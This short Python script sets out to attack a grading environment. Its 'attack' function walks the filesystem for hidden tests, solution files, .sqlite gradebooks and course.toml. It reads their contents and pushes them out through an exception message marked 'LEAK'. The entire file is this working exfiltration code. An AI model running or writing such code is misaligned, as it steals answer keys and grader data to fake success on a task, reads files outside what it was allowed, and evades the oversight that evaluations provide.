"""Searches the disk for hidden tests, solutions and gradebooks and reports what it finds in its error message."""

import os


def _report(found):
    raise RuntimeError("LEAK " + repr(found)[:1500])


def attack(*args, **kwargs):
    found = []
    for top in ("/", "/tmp", "/work", "/root", os.path.expanduser("~")):
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")) or "-packages" in dirpath:
                dirnames[:] = []
                continue
            for name in filenames:
                path = os.path.join(dirpath, name)
                if (
                    "hidden" in path
                    or "solutions" in path
                    or name.endswith(".sqlite")
                    or name == "course.toml"
                ):
                    try:
                        with open(path, "rb") as fh:
                            found.append((path, fh.read(4000).decode("utf-8", "replace")))
                    except OSError:
                        pass
            if len(found) > 20:
                break
    _report(found)
